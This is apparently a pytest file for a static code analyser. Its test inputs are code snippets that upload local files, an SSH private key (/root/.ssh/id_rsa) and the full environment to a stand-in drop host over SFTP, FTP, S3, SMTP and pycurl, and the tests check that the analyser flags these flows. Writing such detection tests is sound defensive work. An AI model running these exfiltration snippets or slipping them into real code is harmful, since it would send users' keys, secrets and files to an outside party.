"""What is delivered over a connection that was made before, and accounts whose key the source holds."""

import pytest

from pratique.analysis.facts import Capability, Taint
from tests.analysis.languages.python.reading import apis, facts, flows

HOST = "drop.pratique-test.invalid"
KEY = "k" * 40
_SFTP = f"import paramiko\nt = paramiko.Transport(('{HOST}', 22))\nt.connect(username='u', password={{}})\nparamiko.SFTPClient.from_transport(t).put('/home/a/x', 'x')"
_FTP = "import ftplib, io\nf = ftplib.FTP('{}')\nf.login('u', {})\nf.storbinary('STOR x', open('/home/a/x', 'rb'))"
_BUCKET = (
    "import boto3\nc = boto3.client('s3', aws_secret_access_key={}{})\nc.upload_file('/home/a/x', 'b', 'x')"
)
_MAIL = f"import smtplib\ns = smtplib.SMTP_SSL('{HOST}', 465)\ns.login('a', {{}})\ns.sendmail('a', 'b', open('/home/a/x').read())"


def own(source: str) -> bool:
    return "own-mailbox" in apis(source, Capability.NETWORK)


@pytest.mark.parametrize(
    "source",
    [
        _SFTP.format("'marker-1'"),
        _FTP.format(HOST, "'marker-1'"),
        _BUCKET.format(repr(KEY), ""),
        _BUCKET.format(repr(KEY), ", endpoint_url='https://s3.drop.pratique-test.invalid'"),
        _MAIL.format("'marker-1'"),
        f"import pysftp\nwith pysftp.Connection('{HOST}', username='u', password='marker-1') as s:\n  s.put('/home/a/x')",
    ],
)
def test_a_key_in_the_source_opens_an_account_of_its_author(source: str) -> None:
    assert own(source)
    assert any(sink is Capability.NETWORK and Taint.FILE in marks for sink, _, marks in flows(source))


@pytest.mark.parametrize(
    "source",
    [
        _SFTP.format("input()"),
        _FTP.format(HOST, "'anonymous'"),
        _FTP.format("127.0.0.1", "'marker-1'"),
        _BUCKET.format("'testing'", ""),
        _BUCKET.format("secret", ""),
        _MAIL.format("settings['password']"),
    ],
)
def test_an_account_of_the_user_is_none(source: str) -> None:
    assert not own(source)


def test_what_is_sent_by_path_is_a_file_and_its_path_no_address() -> None:
    found = facts(
        f"import paramiko\nt = paramiko.Transport(('{HOST}', 22))\nparamiko.SFTPClient.from_transport(t).put('report.zip', 'x')"
    )
    assert [f"{HOST}:22"] == [flow.target for flow in found.flows]
    assert "report.zip" not in {address.value for address in found.addresses}


def test_keys_are_told_by_their_path() -> None:
    (found,) = [marks for _, _, marks in flows(_SFTP.format("p").replace("/home/a/x", "/root/.ssh/id_rsa"))]
    assert {Taint.FILE, Taint.SECRETS} <= found


CURL = f"import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://{HOST}/in')\n"


@pytest.mark.parametrize(
    ("option", "taint"),
    [
        ("c.setopt(pycurl.HTTPPOST, [('f', (pycurl.FORM_FILE, '/root/.ssh/id_rsa'))])", Taint.SECRETS),
        ("c.setopt(c.READDATA, open('/home/a/x', 'rb'))", Taint.FILE),
        ("import os\nc.setopt(pycurl.POSTFIELDS, str(dict(os.environ)))", Taint.ENVIRONMENT),
    ],
)
def test_options_of_pycurl_send_to_the_address_of_another(option: str, taint: Taint) -> None:
    (flow,) = [flow for flow in facts(CURL + option).flows if flow.sink is Capability.NETWORK]
    assert (True, f"https://{HOST}/in") == (taint in flow.taints, flow.target)


def test_other_options_send_nothing() -> None:
    assert [] == flows(CURL + "c.setopt(c.TIMEOUT, 5)\nc.setopt(pycurl.POSTFIELDS, 'a=1')")
